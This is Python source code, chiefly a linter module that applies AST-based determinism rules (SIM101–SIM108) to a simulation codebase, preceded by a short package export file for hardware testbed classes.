paper's hardware validation.
"""

from repro.hardware.testbed import HardwareTestbed, WifiTestbedInternet
from repro.hardware.wifi import WifiChannel, WifiDevice

__all__ = [
    "HardwareTestbed",
    "WifiChannel",
    "WifiDevice",
    "WifiTestbedInternet",
]
