"""The determinism rules (``SIM1xx``): AST checks over one module.

Each check receives the parsed tree and a :class:`~repro.simlint.rules.
CheckContext` and reports through it.  The rules encode the repo's
determinism contract (DESIGN.md "Determinism contract"): a simulation's
outcome may depend only on its config and seed — never on the wall
clock, the process-global RNG, hash/identity ordering, or float
round-off luck.

The checks are deliberately syntactic: no type inference, no
cross-module analysis.  Where a rule needs intent it cannot see (the
``obs`` layer *measures* wall time on purpose), the escape hatches are
the engine's clock allowlist and ``# simlint: disable=...`` comments —
both visible in the diff, which is the point.
"""

from __future__ import annotations

import ast
from typing import List, Optional, Set

from repro.simlint.rules import CheckContext, rule

__all__ = ["run_checks"]


def _dotted(node: ast.AST) -> Optional[str]:
    """``a.b.c`` for an Attribute chain rooted at a Name, else None."""
    parts: List[str] = []
    while isinstance(node, ast.Attribute):
        parts.append(node.attr)
        node = node.value
    if isinstance(node, ast.Name):
        parts.append(node.id)
        return ".".join(reversed(parts))
    return None


def _call_name(func: ast.AST) -> Optional[str]:
    """The terminal name of a call target: ``f`` for ``f(...)`` and
    ``obj.f(...)`` alike."""
    if isinstance(func, ast.Name):
        return func.id
    if isinstance(func, ast.Attribute):
        return func.attr
    return None


# ----------------------------------------------------------------------
# SIM101 — wall-clock reads in simulation code
# ----------------------------------------------------------------------
_WALL_CLOCK_TIME_FNS = {
    "time", "time_ns", "perf_counter", "perf_counter_ns",
    "monotonic", "monotonic_ns", "process_time", "process_time_ns",
}
_WALL_CLOCK_DT_FNS = {"now", "utcnow", "today"}


@rule("SIM101", "wall-clock",
      "sim code must not read the wall clock (time.*/datetime.now); "
      "virtual time comes from sim.now")
def check_wall_clock(tree: ast.AST, ctx: CheckContext) -> None:
    if ctx.in_clock_allowlist:
        return
    for node in ast.walk(tree):
        if isinstance(node, ast.Attribute):
            dotted = _dotted(node)
            if dotted is None:
                continue
            root, _, leaf = dotted.rpartition(".")
            if root == "time" and leaf in _WALL_CLOCK_TIME_FNS:
                ctx.report(node, "SIM101",
                           f"wall-clock read `{dotted}`: sim paths must use "
                           "virtual time (sim.now), not the host clock")
            elif leaf in _WALL_CLOCK_DT_FNS and (
                    root == "datetime" or root.endswith(".datetime")
                    or root == "date" or root.endswith(".date")):
                ctx.report(node, "SIM101",
                           f"wall-clock read `{dotted}`: timestamps in sim "
                           "paths must derive from the virtual clock")
        elif isinstance(node, ast.ImportFrom) and node.module == "time":
            for alias in node.names:
                if alias.name in _WALL_CLOCK_TIME_FNS:
                    ctx.report(node, "SIM101",
                               f"`from time import {alias.name}` smuggles the "
                               "wall clock into sim code")


# ----------------------------------------------------------------------
# SIM102 — draws from the process-global RNG
# ----------------------------------------------------------------------
_GLOBAL_DRAWS = {
    "random", "randint", "randrange", "choice", "choices", "shuffle",
    "sample", "uniform", "gauss", "normalvariate", "lognormvariate",
    "expovariate", "betavariate", "gammavariate", "triangular",
    "vonmisesvariate", "paretovariate", "weibullvariate",
    "getrandbits", "randbytes", "seed", "getstate", "setstate",
}


@rule("SIM102", "global-rng",
      "draws must come from a seeded per-purpose random.Random stream, "
      "never the module-global RNG")
def check_global_rng(tree: ast.AST, ctx: CheckContext) -> None:
    for node in ast.walk(tree):
        if isinstance(node, ast.Attribute):
            dotted = _dotted(node)
            if dotted is None:
                continue
            root, _, leaf = dotted.rpartition(".")
            if root == "random" and leaf in _GLOBAL_DRAWS:
                ctx.report(node, "SIM102",
                           f"`{dotted}` uses the process-global RNG; draw "
                           "from a seeded random.Random(f\"{seed}-purpose\") "
                           "stream instead")
        elif isinstance(node, ast.ImportFrom) and node.module == "random":
            for alias in node.names:
                if alias.name in _GLOBAL_DRAWS:
                    ctx.report(node, "SIM102",
                               f"`from random import {alias.name}` binds the "
                               "process-global RNG; import Random and seed a "
                               "stream instead")


# ----------------------------------------------------------------------
# SIM103 — unordered-collection iteration feeding ordered sinks
# ----------------------------------------------------------------------
_ORDER_SINKS = {
    "emit", "snapshot", "serialize", "to_json", "to_jsonl", "to_csv",
    "dumps", "dump", "heappush", "insort", "push", "write",
}


def _setish_names(tree: ast.AST) -> Set[str]:
    """Names assigned a set expression anywhere in the module (coarse,
    scope-blind on purpose: a false suppression is worse than asking for
    a ``sorted()``)."""
    names: Set[str] = set()
    for node in ast.walk(tree):
        if isinstance(node, ast.Assign) and _is_unordered_expr(node.value, names):
            for target in node.targets:
                if isinstance(target, ast.Name):
                    names.add(target.id)
    return names


def _is_unordered_expr(node: ast.AST, setish: Set[str]) -> bool:
    if isinstance(node, (ast.Set, ast.SetComp)):
        return True
    if isinstance(node, ast.Call) and isinstance(node.func, ast.Name) \
            and node.func.id in ("set", "frozenset"):
        return True
    if isinstance(node, ast.Name) and node.id in setish:
        return True
    if isinstance(node, ast.BinOp) and isinstance(node.op, (ast.BitOr, ast.BitAnd, ast.Sub)):
        return (_is_unordered_expr(node.left, setish)
                or _is_unordered_expr(node.right, setish))
    return False


def _has_order_sink(body: List[ast.stmt]) -> bool:
    for stmt in body:
        for node in ast.walk(stmt):
            if isinstance(node, ast.Call):
                name = _call_name(node.func)
                if name and (name.startswith("schedule") or name in _ORDER_SINKS):
                    return True
    return False


@rule("SIM103", "unordered-iteration",
      "iterating a set into schedule*/serialization/snapshot sinks makes "
      "event order hash-dependent; sort first")
def check_unordered_iteration(tree: ast.AST, ctx: CheckContext) -> None:
    setish = _setish_names(tree)
    for node in ast.walk(tree):
        if isinstance(node, ast.For) and _is_unordered_expr(node.iter, setish) \
                and _has_order_sink(node.body):
            ctx.report(node.iter, "SIM103",
                       "set iteration feeds an order-sensitive sink "
                       "(schedule*/emit/serialize); iterate sorted(...) or an "
                       "insertion-ordered list so event order is reproducible")


# ----------------------------------------------------------------------
# SIM104 — mutable default arguments
# ----------------------------------------------------------------------
_MUTABLE_CTORS = {
    "list", "dict", "set", "defaultdict", "deque", "Counter", "OrderedDict",
}


def _is_mutable_default(node: ast.AST) -> bool:
    if isinstance(node, (ast.List, ast.Dict, ast.Set,
                         ast.ListComp, ast.DictComp, ast.SetComp)):
        return True
    if isinstance(node, ast.Call):
        name = _call_name(node.func)
        return name in _MUTABLE_CTORS
    return False


@rule("SIM104", "mutable-default",
      "mutable default arguments accumulate state across calls and runs")
def check_mutable_defaults(tree: ast.AST, ctx: CheckContext) -> None:
    for node in ast.walk(tree):
        if isinstance(node, (ast.FunctionDef, ast.AsyncFunctionDef, ast.Lambda)):
            defaults = list(node.args.defaults) + [
                default for default in node.args.kw_defaults if default is not None
            ]
            for default in defaults:
                if _is_mutable_default(default):
                    ctx.report(default, "SIM104",
                               "mutable default argument: shared across calls, "
                               "so one run's state leaks into the next; "
                               "default to None and build inside")


# ----------------------------------------------------------------------
# SIM105 — float equality on sim-time arithmetic
# ----------------------------------------------------------------------
_TIME_NAMES = {
    "now", "t", "dt", "delay", "duration", "deadline", "elapsed",
    "interval", "timeout", "when",
}


def _is_timeish(name: str) -> bool:
    lowered = name.lower()
    return lowered in _TIME_NAMES or "time" in lowered


def _timeish_arithmetic(node: ast.AST) -> bool:
    """True for a +,-,*,/ expression whose leaves include a time name."""
    if not (isinstance(node, ast.BinOp)
            and isinstance(node.op, (ast.Add, ast.Sub, ast.Mult, ast.Div))):
        return False
    for leaf in ast.walk(node):
        if isinstance(leaf, ast.Name) and _is_timeish(leaf.id):
            return True
        if isinstance(leaf, ast.Attribute) and _is_timeish(leaf.attr):
            return True
    return False


@rule("SIM105", "float-time-eq",
      "== / != on sim-time arithmetic is round-off roulette; compare with "
      "a tolerance or restructure")
def check_float_time_eq(tree: ast.AST, ctx: CheckContext) -> None:
    for node in ast.walk(tree):
        if not isinstance(node, ast.Compare):
            continue
        if not any(isinstance(op, (ast.Eq, ast.NotEq)) for op in node.ops):
            continue
        operands = [node.left] + list(node.comparators)
        if any(_timeish_arithmetic(operand) for operand in operands):
            ctx.report(node, "SIM105",
                       "float == / != on time arithmetic: accumulated "
                       "round-off makes this fragile; use a tolerance "
                       "(abs(a - b) < eps) or integer ticks")


# ----------------------------------------------------------------------
# SIM106 — id() as a sort key
# ----------------------------------------------------------------------
def _is_id_key(value: ast.AST) -> bool:
    if isinstance(value, ast.Name) and value.id == "id":
        return True
    if isinstance(value, ast.Lambda) and isinstance(value.body, ast.Call) \
            and isinstance(value.body.func, ast.Name) \
            and value.body.func.id == "id":
        return True
    return False


@rule("SIM106", "id-sort-key",
      "id() reflects allocation addresses; sorting by it changes order "
      "run-to-run")
def check_id_sort_key(tree: ast.AST, ctx: CheckContext) -> None:
    for node in ast.walk(tree):
        if not isinstance(node, ast.Call):
            continue
        name = _call_name(node.func)
        if name not in ("sorted", "sort", "min", "max"):
            continue
        for keyword in node.keywords:
            if keyword.arg == "key" and _is_id_key(keyword.value):
                ctx.report(keyword.value, "SIM106",
                           "id() as a sort key orders by allocation address "
                           "— nondeterministic across runs; sort by a stable "
                           "attribute (name, index, address) instead")


# ----------------------------------------------------------------------
# SIM107 — loop variables captured by scheduled closures
# ----------------------------------------------------------------------
def _target_names(target: ast.AST) -> Set[str]:
    names: Set[str] = set()
    for node in ast.walk(target):
        if isinstance(node, ast.Name):
            names.add(node.id)
    return names


def _lambda_captures(lam: ast.Lambda, loop_vars: Set[str]) -> Set[str]:
    """Loop variables the lambda reads late (not rebound as params)."""
    bound = {arg.arg for arg in lam.args.args + lam.args.kwonlyargs}
    bound |= {arg.arg for arg in (
        [lam.args.vararg] if lam.args.vararg else []
    ) + ([lam.args.kwarg] if lam.args.kwarg else [])}
    captured: Set[str] = set()
    for node in ast.walk(lam.body):
        if isinstance(node, ast.Name) and isinstance(node.ctx, ast.Load) \
                and node.id in loop_vars and node.id not in bound:
            captured.add(node.id)
    return captured


class _LoopClosureVisitor(ast.NodeVisitor):
    def __init__(self, ctx: CheckContext):
        self.ctx = ctx
        self.loop_vars: List[Set[str]] = []

    def visit_For(self, node: ast.For) -> None:
        self.loop_vars.append(_target_names(node.target))
        for stmt in node.body + node.orelse:
            self.visit(stmt)
        self.loop_vars.pop()
        self.visit(node.iter)

    # a new function scope re-binds nothing loop-related by itself, but
    # lambdas inside it still capture the enclosing loop vars — keep
    # descending with the same stack.

    def visit_Call(self, node: ast.Call) -> None:
        name = _call_name(node.func)
        if name and name.startswith("schedule") and self.loop_vars:
            active: Set[str] = set().union(*self.loop_vars)
            for value in list(node.args) + [kw.value for kw in node.keywords]:
                if isinstance(value, ast.Lambda):
                    captured = _lambda_captures(value, active)
                    if captured:
                        names = ", ".join(sorted(captured))
                        self.ctx.report(
                            value, "SIM107",
                            f"scheduled lambda captures loop variable(s) "
                            f"{names} by reference — every callback sees the "
                            "final iteration's value; bind with a default "
                            "arg (lambda x=x: ...) or partial()")
        self.generic_visit(node)


@rule("SIM107", "loop-closure-callback",
      "a lambda scheduled inside a loop must bind its loop variables, "
      "not capture them by reference")
def check_loop_closure_callbacks(tree: ast.AST, ctx: CheckContext) -> None:
    _LoopClosureVisitor(ctx).visit(tree)


# ----------------------------------------------------------------------
# SIM108 — unused imports
# ----------------------------------------------------------------------
def _names_used(tree: ast.AST) -> Set[str]:
    """Every Name referenced anywhere (loads, stores, annotations) plus
    the strings listed in ``__all__`` — anything in here is "used"."""
    used: Set[str] = set()
    for node in ast.walk(tree):
        if isinstance(node, ast.Name):
            used.add(node.id)
        elif isinstance(node, ast.Assign):
            for target in node.targets:
                if isinstance(target, ast.Name) and target.id == "__all__":
                    for sub in ast.walk(node.value):
                        if isinstance(sub, ast.Constant) \
                                and isinstance(sub.value, str):
                            used.add(sub.value)
    return used


def _type_checking_nodes(tree: ast.AST) -> Set[int]:
    """ids of statements under ``if TYPE_CHECKING:`` — imports there
    exist only for annotations and quoted forward references."""
    guarded: Set[int] = set()
    for node in ast.walk(tree):
        if not isinstance(node, ast.If):
            continue
        test = node.test
        name = (test.id if isinstance(test, ast.Name)
                else test.attr if isinstance(test, ast.Attribute) else None)
        if name == "TYPE_CHECKING":
            for stmt in node.body:
                for sub in ast.walk(stmt):
                    guarded.add(id(sub))
    return guarded


@rule("SIM108", "unused-import",
      "imports that nothing references are dead weight and hide real "
      "dependencies")
def check_unused_imports(tree: ast.AST, ctx: CheckContext) -> None:
    import os

    if os.path.basename(ctx.path) == "__init__.py":
        return  # package façades re-export on purpose
    used = _names_used(tree)
    guarded = _type_checking_nodes(tree)
    for node in ast.walk(tree):
        if id(node) in guarded:
            continue
        if isinstance(node, ast.Import):
            for alias in node.names:
                bound = alias.asname or alias.name.split(".")[0]
                if bound not in used:
                    ctx.report(node, "SIM108",
                               f"`import {alias.name}` is never used")
        elif isinstance(node, ast.ImportFrom):
            if node.module == "__future__":
                continue
            for alias in node.names:
                if alias.name == "*":
                    continue
                bound = alias.asname or alias.name
                if alias.asname == alias.name:
                    continue  # `import x as x` is the re-export idiom
                if bound not in used:
                    ctx.report(node, "SIM108",
                               f"`from {node.module or '.'} import "
                               f"{alias.name}` is never used")


def run_checks(tree: ast.AST, ctx: CheckContext, codes: List[str]) -> None:
    """Run the selected file-scope rules (import side effect: registry
    is full).  Project-scope rules need the whole-program index and run
    from the engine's project pass instead."""
    from repro.simlint.rules import REGISTRY

    for code in codes:
        entry = REGISTRY[code]
        if entry.scope == "file":
            entry.check(tree, ctx)
